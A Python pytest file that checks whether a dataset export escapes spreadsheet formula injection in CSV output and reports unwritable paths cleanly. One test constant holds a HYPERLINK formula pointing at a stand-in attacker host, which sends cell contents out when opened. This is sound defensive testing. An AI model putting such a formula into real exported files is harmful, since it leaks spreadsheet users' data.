"""The exported dataset in the hands of a spreadsheet."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

from pinakes.errors import PinakesError, UsageError
from pinakes.operations.export import export
from pinakes.settings import Settings
from tests.counting import Counting
from tests.running import paint, run

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def test_a_csv_for_spreadsheets_holds_no_formula(settings: Settings, tmp_path: Path) -> None:
    for name in ("a.png", "=b.png"):
        paint(tmp_path / "in" / name, (0, 0, 255))
    table = tmp_path / "about.csv"
    pd.DataFrame({"file": ["a.png", "=b.png"], "title": [FORMULA, "Plain"], "author": ["@x", "-1"]}).to_csv(table)
    run(settings, tmp_path / "in")
    columns = ["image_id", "title", "author"]

    def rows(file: str, *, excel_safe: bool) -> set[tuple[str, ...]]:
        space = Counting().facts.space
        path = tmp_path / file
        export(
            path,
            collection="pictures",
            space=space,
            checkpoint=settings.checkpoint,
            metadata=[table],
            excel_safe=excel_safe,
        )
        frame = pd.read_csv(path)
        assert frame["vector"].str.startswith("[").all()
        return set(frame[columns].itertuples(index=False, name=None))

    assert rows("as-it-is.csv", excel_safe=False) == {("a.png", FORMULA, "@x"), ("=b.png", "Plain", "-1")}
    assert rows("safe.csv", excel_safe=True) == {("a.png", f"'{FORMULA}", "'@x"), ("'=b.png", "Plain", "'-1")}
    with pytest.raises(UsageError, match="--excel-safe is about CSV"):
        rows("all.parquet", excel_safe=True)


def test_an_export_that_cannot_be_written_is_one_sentence(settings: Settings, tmp_path: Path) -> None:
    paint(tmp_path / "in" / "a.png", (0, 0, 255))
    run(settings, tmp_path / "in")
    (tmp_path / "file").touch()
    with pytest.raises(PinakesError, match=r"the export .* cannot be written: Not a directory"):
        export(
            tmp_path / "file" / "out.csv",
            collection="pictures",
            space=Counting().facts.space,
            checkpoint=settings.checkpoint,
        )
